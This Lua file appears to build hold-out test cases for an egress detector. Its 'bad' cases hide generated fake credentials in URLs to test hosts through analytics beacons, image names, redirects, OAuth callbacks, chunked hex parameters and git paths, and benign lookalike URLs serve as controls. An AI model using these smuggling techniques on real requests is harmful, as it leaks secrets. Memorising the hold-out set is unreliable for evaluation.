-- Hold-out: credentials and data in the URL, placed as trackers and
-- callbacks place them: an analytics collect hit, an image named by its
-- data, matrix parameters, a GraphQL GET, a token in a nested redirect
-- URL, an OAuth-style callback, many short query chunks, a git smart-HTTP
-- path.  Benign: URLs agents fetch whose queries are long or opaque (S3
-- continuation tokens, Google Fonts, code search, a Homebrew bottle blob,
-- a jsDelivr file, a Docker registry token request, Maven, crates).
local F = require "reliability.egress.fake"
local K = require "reliability.egress.formats"
local H = require "reliability.egress.holdout.formats"

local cases = {}
local function bad(id, what, path, host)
   cases[#cases + 1] = { id = "h-url-" .. id, category = "url", malicious = true, what = what, method = "GET",
                         host = host or "api.egress.test", path = path }
end
local function good(id, what, path, host)
   cases[#cases + 1] = { id = "h-url-" .. id, category = "url", malicious = false, what = what, method = "GET",
                         host = host or "api.egress.test", path = path }
end
local function g(id) return F.gen("h-url-" .. id) end

bad("ga-collect", "an analytics collect hit whose event parameter is a base64 .env line",
    "/g/collect?v=2&tid=G-" .. g("a").chars(10, F.UPPER_ALNUM) .. "&cid=555.1764547200&en=page_view&ep.d="
    .. F.urlencode(F.base64("NETLIFY_AUTH_TOKEN=" .. H.netlify(g("a")))), "analytics.egress.test")
bad("image-name", "a tracking image named by a base64url Figma token", "/i/" .. F.base64(H.figma(g("b"))):gsub("=", "")
    :gsub("%+", "-"):gsub("/", "_") .. ".png", "cdn.egress.test")
bad("matrix", "a matrix parameter (;jsessionid style) with an Airtable token",
    "/app/view;jsessionid=" .. H.airtable(g("c")) .. "?tab=1")
bad("graphql-get", "a GraphQL GET whose variables hold a Buildkite token",
    "/graphql?query=" .. F.urlencode("query($t:String){ping(t:$t)}") .. "&variables="
    .. F.urlencode('{"t":"' .. H.buildkite(g("d")) .. '"}'))
bad("nested-redirect", "a login redirect whose next= URL carries a Square token, encoded twice",
    "/login?next=" .. F.urlencode("https://app.egress.test/cb?access=" .. F.urlencode(H.square(g("e")))))
bad("oauth-callback", "an OAuth-style callback with a Google access token in the query",
    "/oauth/callback?state=xyz&token_type=Bearer&expires_in=3599&access_token=" .. H.google_access(g("f")), "auth.egress.test")
do
   local t, parts = F.hex(K.aws_secret(g("g"))), {}
   for i = 1, #t, 8 do parts[#parts + 1] = ("c%d=%s"):format(#parts, t:sub(i, i + 7)) end
   bad("chunked-query", "hex of an AWS secret key in ten eight-character query parameters",
       "/beacon?" .. table.concat(parts, "&"))
end
bad("git-path", "a PyPI-shaped token as a fake repository owner in a git smart-HTTP path",
    "/" .. K.pypi(g("h")) .. "/app.git/info/refs?service=git-upload-pack", "git.egress.test")

local gg = g("benign")
good("s3-continuation", "S3 ListObjectsV2 with an opaque continuation token",
     "/?list-type=2&prefix=builds%2F2026-12%2F&max-keys=1000&continuation-token="
     .. F.urlencode("1" .. gg.chars(120, F.B64) .. "="), "bucket.egress.test")
good("google-fonts", "Google Fonts CSS", "/css2?family=Inter:wght@400;500;700&family=JetBrains+Mono&display=swap",
     "fonts.egress.test")
good("code-search", "GitHub code search for a secret-looking name",
     "/search/code?q=AWS_SECRET_ACCESS_KEY+in%3Afile+language%3Ayaml+repo%3Aacme%2Fapp&per_page=30")
good("brew-bottle", "a Homebrew bottle blob by sha256 digest",
     "/v2/homebrew/core/jq/blobs/sha256:" .. gg.chars(64, F.HEX), "ghcr.egress.test")
good("jsdelivr", "a jsDelivr file with a version range", "/npm/chart.js@4.4.6/dist/chart.umd.min.js", "cdn.egress.test")
good("registry-token", "an anonymous Docker registry token request",
     "/token?scope=repository%3Alibrary%2Fpython%3Apull&service=registry.docker.io", "auth.egress.test")
good("maven", "a Maven Central artifact path",
     "/maven2/com/fasterxml/jackson/core/jackson-databind/2.18.1/jackson-databind-2.18.1.pom", "repo.egress.test")
good("crates-download", "a crate download", "/api/v1/crates/tokio/1.41.1/download", "crates.egress.test")

return cases
